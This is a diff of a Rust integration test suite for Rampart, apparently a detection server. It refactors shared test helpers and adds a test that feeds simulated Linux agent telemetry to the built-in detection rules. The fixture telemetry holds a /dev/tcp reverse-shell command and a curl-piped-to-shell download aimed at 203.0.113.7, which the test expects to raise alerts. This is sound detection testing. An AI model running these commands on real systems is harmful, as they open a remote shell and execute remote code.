@@ -2,196 +2,15 @@
 //! on every route of the OpenAPI document, tenant isolation, input limits, HTTPS with the
 //! server's own CA, and SIGKILL during ingest.
 
-use std::io::{BufRead, BufReader};
 use std::path::{Path, PathBuf};
-use std::process::{Child, Command, Stdio};
+use std::process::Command;
 use std::sync::Arc;
 use std::time::{Duration, Instant};
 
+mod common;
+
+use common::{PASSWORD, Server, agent, scratch};
 use serde_json::{Value, json};
-
-const PASSWORD: &str = "correct horse battery staple";
-
-/// A server process on a free port with its own data directory.
-struct Server {
-    child: Child,
-    url: String,
-    http: ureq::Agent,
-}
-
-fn scratch(name: &str) -> PathBuf {
-    let dir = std::env::temp_dir().join(format!("rampart-server-{name}-{}", std::process::id()));
-    let _ = std::fs::remove_dir_all(&dir);
-    std::fs::create_dir_all(&dir).expect("scratch dir");
-    dir
-}
-
-fn agent(ca: Option<&Path>) -> ureq::Agent {
-    use ureq::tls::{Certificate, RootCerts, TlsConfig};
-    let mut tls = TlsConfig::builder();
-    if let Some(ca) = ca {
-        let pem = std::fs::read(ca).expect("ca.crt");
-        let cert = Certificate::from_pem(&pem).expect("PEM").to_owned();
-        tls = tls.root_certs(RootCerts::Specific(Arc::new(vec![cert])));
-    }
-    ureq::Agent::config_builder()
-        .tls_config(tls.build())
-        .http_status_as_error(false)
-        .timeout_global(Some(Duration::from_secs(300)))
-        .build()
-        .new_agent()
-}
-
-impl Server {
-    /// Starts `rampart server` on `dir` (plain HTTP unless `tls`), waiting until it listens.
-    fn start(dir: &Path, tls: bool, extra: &[&str]) -> Server {
-        let mut cmd = Command::new(env!("CARGO_BIN_EXE_rampart"));
-        cmd.args(["server", "--data-dir"])
-            .arg(dir)
-            .args(["--listen", "127.0.0.1:0"])
-            .args(extra)
-            .env("RAMPART_ADMIN_PASSWORD", PASSWORD)
-            .env("RAMPART_LOG", "warn")
-            .stdout(Stdio::piped())
-            .stderr(std::fs::File::create(dir.with_extension("log")).expect("log file"));
-        if !tls {
-            cmd.arg("--insecure-http");
-        }
-        let mut child = cmd.spawn().expect("the binary runs");
-        let stdout = child.stdout.take().expect("stdout");
-        let mut lines = BufReader::new(stdout).lines();
-        let url = loop {
-            match lines.next() {
-                Some(Ok(line)) => {
-                    if let Some(rest) = line.strip_prefix("Rampart server listening on ") {
-                        break rest.trim().to_string();
-                    }
-                }
-                _ => {
-                    let log =
-                        std::fs::read_to_string(dir.with_extension("log")).unwrap_or_default();
-                    panic!("the server did not start:\n{log}");
-                }
-            }
-        };
-        // Keep reading so the server never blocks on a full pipe.
-        std::thread::spawn(move || lines.for_each(drop));
-        let ca = dir.join("pki/ca.crt");
-        Server {
-            child,
-            url: url.trim_end_matches('/').to_string(),
-            http: agent(tls.then_some(ca.as_path())),
-        }
-    }
-
-    fn call(
-        &self,
-        method: &str,
-        path: &str,
-        token: Option<&str>,
-        body: Option<&Value>,
-    ) -> (u16, Value) {
-        let url = format!("{}{path}", self.url);
-        let auth = token.map(|t| format!("Bearer {t}"));
-        let mut response = match (method, body) {
-            ("GET" | "DELETE", _) => {
-                let mut req = if method == "GET" {
-                    self.http.get(&url)
-                } else {
-                    self.http.delete(&url)
-                };
-                if let Some(a) = &auth {
-                    req = req.header("Authorization", a);
-                }
-                req.call()
-            }
-            (_, body) => {
-                let mut req = match method {
-                    "POST" => self.http.post(&url),
-                    "PATCH" => self.http.patch(&url),
-                    "PUT" => self.http.put(&url),
-                    other => panic!("method {other}"),
-                };
-                if let Some(a) = &auth {
-                    req = req.header("Authorization", a);
-                }
-                req.send_json(body.cloned().unwrap_or_else(|| json!({})))
-            }
-        }
-        .expect("the server answers");
-        let status = response.status().as_u16();
-        let text = response.body_mut().read_to_string().unwrap_or_default();
-        (
-            status,
-            serde_json::from_str(&text).unwrap_or(Value::String(text)),
-        )
-    }
-
-    fn get(&self, path: &str, token: &str) -> Value {
-        let (status, body) = self.call("GET", path, Some(token), None);
-        assert_eq!(status, 200, "GET {path}: {body}");
-        body
-    }
-
-    fn post(&self, path: &str, token: &str, body: Value) -> Value {
-        let (status, answer) = self.call("POST", path, Some(token), Some(&body));
-        assert!(
-            status == 200 || status == 201,
-            "POST {path}: {status} {answer}"
-        );
-        answer
-    }
-
-    fn login(&self, user: &str, password: &str) -> String {
-        let (status, body) = self.call(
-            "POST",
-            "/api/v1/auth/login",
-            None,
-            Some(&json!({"username": user, "password": password})),
-        );
-        assert_eq!(status, 200, "login {user}: {body}");
-        body["token"].as_str().expect("token").to_string()
-    }
-
-    fn upload(&self, token: &str, file: &Path) -> (u16, Value) {
-        let name = file.file_name().unwrap().to_string_lossy().into_owned();
-        let url = format!(
-            "{}/api/v1/ingest/evtx?name={}",
-            self.url,
-            name.replace(' ', "%20")
-        );
-        let mut response = self
-            .http
-            .post(&url)
-            .header("Authorization", &format!("Bearer {token}"))
-            .content_type("application/octet-stream")
-            .send(std::fs::read(file).expect("evtx"))
-            .expect("the server answers");
-        let status = response.status().as_u16();
-        (
-            status,
-            response.body_mut().read_json().unwrap_or(Value::Null),
-        )
-    }
-
-    fn hunt(&self, token: &str, query: &str) -> Value {
-        self.post("/api/v1/hunting/query", token, json!({"query": query}))
-    }
-
-    fn count(&self, token: &str, query: &str) -> u64 {
-        let r = self.hunt(token, &format!("{query} | count"));
-        r["rows"][0][0]
-            .as_u64()
-            .unwrap_or_else(|| panic!("count of {query}: {r}"))
-    }
-}
-
-impl Drop for Server {
-    fn drop(&mut self) {
-        let _ = self.child.kill();
-        let _ = self.child.wait();
-    }
-}
 
 /// Every operation of the OpenAPI document: (method, path with ids filled in, access).
 fn operations(server: &Server) -> Vec<(String, String, String)> {
@@ -706,12 +525,49 @@ fn enroll(server: &Server, dir: &Path, admin: &str, hostname: &str) -> (Value, u
 }
 
 fn agent_post(server: &Server, client: &ureq::Agent, path: &str, body: &Value) -> (u16, Value) {
-    let mut r = client
-        .post(&format!("{}{path}", server.url))
-        .send_json(body)
-        .expect("the server answers");
+    agent_post_with(server, client, path, body, &[])
+}
+
+/// [`agent_post`] with extra request headers.
+fn agent_post_with(
+    server: &Server,
+    client: &ureq::Agent,
+    path: &str,
+    body: &Value,
+    headers: &[(&str, &str)],
+) -> (u16, Value) {
+    let mut request = client.post(&format!("{}{path}", server.url));
+    for (name, value) in headers {
+        request = request.header(*name, *value);
+    }
+    let mut r = request.send_json(body).expect("the server answers");
     let status = r.status().as_u16();
     (status, r.body_mut().read_json().unwrap_or(Value::Null))
+}
+
+/// A TLS server in a fresh folder, its admin's token, and the agent of `web01` enrolled in the
+/// default tenant (its device id and mTLS client).
+struct AgentSetup {
+    dir: PathBuf,
+    server: Server,
+    admin: String,
+    device: String,
+    web01: ureq::Agent,
+}
+
+fn with_web01(name: &str) -> AgentSetup {
+    let dir = scratch(name);
+    let server = Server::start(&dir, true, &[]);
+    let admin = server.login("admin", PASSWORD);
+    let (enrolled, web01) = enroll(&server, &dir, &admin, "web01");
+    let device = enrolled["device_id"].as_str().unwrap().to_string();
+    AgentSetup {
+        dir,
+        server,
+        admin,
+        device,
+        web01,
+    }
 }
 
 /// Agents: a one-time token enrolls a device; its certificate posts telemetry that lands in its
@@ -719,11 +575,13 @@ fn agent_post(server: &Server, client: &ureq::Agent, path: &str, body: &Value) -
 /// routes; actions reach the agent and its results come back.
 #[test]
 fn agents_report_for_their_own_tenant_and_device_only() {
-    let dir = scratch("agents");
-    let server = Server::start(&dir, true, &[]);
-    let admin = server.login("admin", PASSWORD);
-    let (enrolled, web01) = enroll(&server, &dir, &admin, "web01");
-    let device = enrolled["device_id"].as_str().unwrap().to_string();
+    let AgentSetup {
+        dir,
+        server,
+        admin,
+        device,
+        web01,
+    } = with_web01("agents");
 
     let forged = json!({"batches": [{"table": "DeviceProcessEvents", "rows": [{
         "Timestamp": "2026-12-01T10:00:00Z", "DeviceId": "dev_someone_else", "DeviceName": "dc01",
@@ -803,7 +661,7 @@ fn agents_report_for_their_own_tenant_and_device_only() {
     );
     let acme = server.login("acme-admin", PASSWORD);
     let (b_enrolled, b_web01) = enroll(&server, &dir, &acme, "web01");
-    assert_ne!(b_enrolled["device_id"], enrolled["device_id"]);
+    assert_ne!(b_enrolled["device_id"], device.as_str());
     let row = json!({"batches": [{"table": "DeviceProcessEvents", "rows": [{"Timestamp": "2026-12-01T11:00:00Z", "FileName": "acme-only"}]}]});
     assert_eq!(
         agent_post(&server, &b_web01, "/api/v1/agents/telemetry", &row).0,
@@ -868,6 +726,238 @@ fn agents_report_for_their_own_tenant_and_device_only() {
     );
     let (_, other) = agent_post(&server, &b_web01, "/api/v1/agents/telemetry", &rows);
     assert_eq!(other["alerts"]["raised"], 0, "{other}");
+}
+
+/// Agent telemetry meets Rampart's own Linux rules, loaded by default: a reverse shell, a
+/// download piped into a shell and a shell connecting out raise alerts with their evidence and
+/// ATT&CK techniques; numbered requests are stored exactly once, whatever the agent re-sends.
+#[test]
+fn agent_telemetry_raises_linux_alerts_exactly_once() {
+    let AgentSetup {
+        server,
+        admin,
+        device,
+        web01,
+        ..
+    } = with_web01("linux-telemetry");
+    let builtin = server.get("/api/v1/rules?limit=1000", &admin);
+    let own = builtin["items"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|r| {
+            r["origin"]["path"]
+                .as_str()
+                .is_some_and(|p| p.starts_with("rampart:rules/linux/"))
+        })
+        .count();
+    assert!(own >= 20, "Rampart's own rules are loaded: {builtin}");
+
+    let process = |secs: u32, pid: u32, image: &str, command_line: &str| {
+        json!({
+            "Timestamp": format!("2026-12-01T10:00:{secs:02}Z"), "ActionType": "ProcessCreated",
+            "FileName": image.rsplit('/').next(), "FolderPath": image, "ProcessId": pid,
+            "ProcessCommandLine": command_line, "ProcessCreationTime": format!("2026-12-01T10:00:{secs:02}Z"),
+            "AccountName": "www-data", "AccountDomain": "web01",
+            "InitiatingProcessFolderPath": "/usr/bin/bash", "InitiatingProcessFileName": "bash",
+            "InitiatingProcessCommandLine": "bash", "InitiatingProcessId": 4000,
+            "InitiatingProcessCreationTime": "2026-12-01T09:59:00Z",
+            "InitiatingProcessAccountName": "www-data",
+            "AdditionalFields": {"CurrentDirectory": "/var/www"},
+        })
+    };
+    let rows = |first: u32, n: u32| -> Vec<Value> {
+        (first..first + n)
+            .map(|i| process(10 + i, 5000 + i, "/usr/bin/ls", "ls -la"))
+            .collect()
+    };
+    let attack = json!({"batches": [
+        {"table": "DeviceProcessEvents", "rows": [
+            process(1, 4242, "/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
+            process(2, 4243, "/usr/bin/dash", "sh -c curl -fsSL http://203.0.113.7/x.sh | sh"),
+            process(3, 4244, "/usr/bin/ls", "ls -la"),
+        ]},
+        {"table": "DeviceNetworkEvents", "rows": [{
+            "Timestamp": "2026-12-01T10:00:04Z", "ActionType": "ConnectionSuccess",
+            "RemoteIP": "203.0.113.7", "RemotePort": 4444, "LocalIP": "10.0.0.5", "LocalPort": 50312,
+            "Protocol": "Tcp", "InitiatingProcessFolderPath": "/usr/bin/bash",
+            "InitiatingProcessCommandLine": "bash -i", "InitiatingProcessId": 4242,
+            "InitiatingProcessCreationTime": "2026-12-01T10:00:01Z",
+            "InitiatingProcessAccountName": "www-data",
+        }]},
+    ]});
+    let telemetry = "/api/v1/agents/telemetry";
+    let seq = |range: &str| [("X-Rampart-Sequence", range.to_string())];
+    let post = |body: &Value, range: &str| {
+        let headers = seq(range);
+        let headers: Vec<(&str, &str)> = headers.iter().map(|(n, v)| (*n, v.as_str())).collect();
+        agent_post_with(&server, &web01, telemetry, body, &headers)
+    };
+    let (status, answer) = post(&attack, "1001-1004");
+    assert_eq!(status, 200, "{answer}");
+    assert_eq!(
+        (
+            &answer["rows"],
+            &answer["duplicate"],
+            &answer["alerts"]["raised"]
+        ),
+        (&json!(4), &json!(false), &json!(3)),
+        "{answer}"
+    );
+
+    let alerts = server.get(&format!("/api/v1/alerts?device_id={device}"), &admin);
+    let items = alerts["items"].as_array().unwrap();
+    let alert = |title: &str| {
+        let found = items
+            .iter()
+            .find(|a| a["title"] == title)
+            .unwrap_or_else(|| panic!("no alert {title}: {alerts}"));
+        server.get(
+            &format!("/api/v1/alerts/{}", found["id"].as_str().unwrap()),
+            &admin,
+        )
+    };
+    let evidence = |a: &Value, kind: &str| -> Vec<Value> {
+        a["evidence"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .filter(|e| e["kind"] == kind)
+            .cloned()
+            .collect()
+    };
+    // Whether the list `key` of alert `a` holds `value`.
+    let lists = |a: &Value, key: &str, value: &str| {
+        a[key].as_array().is_some_and(|l| l.contains(&json!(value)))
+    };
+    let shell = alert("Reverse Shell Through /dev/tcp");
+    assert_eq!(shell["severity"], "high", "{shell}");
+    assert_eq!(shell["device_id"], device.as_str());
+    assert!(lists(&shell, "techniques", "T1059.004"), "{shell}");
+    assert!(lists(&shell, "tactics", "Execution"), "{shell}");
+    assert_eq!(evidence(&shell, "device")[0]["name"], "web01", "{shell}");
+    assert_eq!(
+        evidence(&shell, "account")[0]["name"],
+        "www-data",
+        "{shell}"
+    );
+    let processes = evidence(&shell, "process");
+    let child = processes
+        .iter()
+        .find(|p| p["role"] == "child")
+        .expect("the shell");
+    assert_eq!(
+        child["command_line"],
+        "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
+    );
+    assert_eq!(
+        (child["pid"].as_i64(), child["image"].as_str()),
+        (Some(4242), Some("/usr/bin/bash"))
+    );
+    let parent = processes
+        .iter()
+        .find(|p| p["role"] == "parent")
+        .expect("its parent");
+    assert_eq!(parent["pid"], 4000, "{shell}");
+    assert_eq!(
+        evidence(&shell, "file")[0]["folder_path"],
+        "/usr/bin/bash",
+        "{shell}"
+    );
+    assert_eq!(
+        shell["trigger_event"]["event"]["table"], "DeviceProcessEvents",
+        "{shell}"
+    );
+    assert_eq!(
+        shell["trigger_event"]["event"]["record_id"], 1001,
+        "{shell}"
+    );
+
+    let download = alert("Download Piped Into a Shell");
+    assert!(lists(&download, "techniques", "T1105"), "{download}");
+    let child = evidence(&download, "process")
+        .into_iter()
+        .find(|p| p["role"] == "child")
+        .expect("the shell");
+    assert_eq!(
+        child["command_line"],
+        "sh -c curl -fsSL http://203.0.113.7/x.sh | sh"
+    );
+
+    let outbound = alert("Shell or Interpreter Opens an Outbound Connection");
+    let ips: Vec<Value> = evidence(&outbound, "ip")
+        .iter()
+        .map(|e| e["address"].clone())
+        .collect();
+    assert!(ips.contains(&json!("203.0.113.7")), "{outbound}");
+    assert!(lists(&outbound, "techniques", "T1095"), "{outbound}");
+    // One machine, one story: the three alerts share an incident.
+    assert_eq!(shell["incident_id"], download["incident_id"]);
+    assert_eq!(shell["incident_id"], outbound["incident_id"]);
+
+    // The same request again: a duplicate, nothing stored, no alert.
+    let count = || server.count(&admin, "union DeviceProcessEvents, DeviceNetworkEvents");
+    assert_eq!(count(), 4);
+    let (status, again) = post(&attack, "1001-1004");
+    assert_eq!(status, 200, "{again}");
+    assert_eq!(
+        (&again["duplicate"], &again["rows"]),
+        (&json!(true), &json!(0)),
+        "{again}"
+    );
+    assert_eq!(count(), 4, "a retry stores nothing twice");
+    // Overlapping: only the rows above the mark are stored.
+    let mut overlap = rows(0, 4);
+    overlap[0] = process(3, 4244, "/usr/bin/ls", "ls -la");
+    let body = json!({"batches": [{"table": "DeviceProcessEvents", "rows": overlap}]});
+    let (status, partial) = post(&body, "1004-1007");
+    assert_eq!(status, 200, "{partial}");
+    assert_eq!(
+        (&partial["rows"], &partial["skipped"]),
+        (&json!(3), &json!(1)),
+        "{partial}"
+    );
+    assert_eq!(count(), 7);
+    // The agent's numbering may skip numbers (records it dropped): two rows numbered within
+    // 2000-2009 are stored, then known.
+    let sparse = json!({"batches": [{"table": "DeviceProcessEvents", "rows": rows(10, 2)}]});
+    let (status, gapped) = post(&sparse, "2000-2009");
+    assert_eq!((status, &gapped["rows"]), (200, &json!(2)), "{gapped}");
+    let (_, again) = post(&sparse, "2000-2009");
+    assert_eq!(again["duplicate"], true, "{again}");
+    assert_eq!(count(), 9);
+    // Unnumbered telemetry is stored as sent.
+    let (status, _) = agent_post(
+        &server,
+        &web01,
+        telemetry,
+        &json!({"batches": [{"table": "DeviceProcessEvents", "rows": rows(20, 1)}]}),
+    );
+    assert_eq!(status, 200);
+    assert_eq!(count(), 10);
+    // A malformed header, or a range that is not the request's rows, is refused by name.
+    for range in ["1008", "9-8", "x-y", "1008-1010"] {
+        let (status, problem) = post(&body, range);
+        assert_eq!(status, 400, "{range}: {problem}");
+        assert!(is_problem(&problem, 400), "{problem}");
+        assert!(
+            problem["detail"]
+                .as_str()
+                .unwrap()
+                .contains("X-Rampart-Sequence"),
+            "{range}: {problem}"
+        );
+    }
+    assert_eq!(count(), 10);
+    // The OpenAPI document names the header.
+    let (_, doc) = server.call("GET", "/api/openapi.json", None, None);
+    let parameters = &doc["paths"][telemetry]["post"]["parameters"];
+    assert!(
+        parameters.as_array().is_some_and(|p| p
+            .iter()
+            .any(|p| p["name"] == "X-Rampart-Sequence" && p["in"] == "header")),
+        "{parameters}"
+    );
 }
 
 fn walk(dir: &Path) -> Vec<PathBuf> {
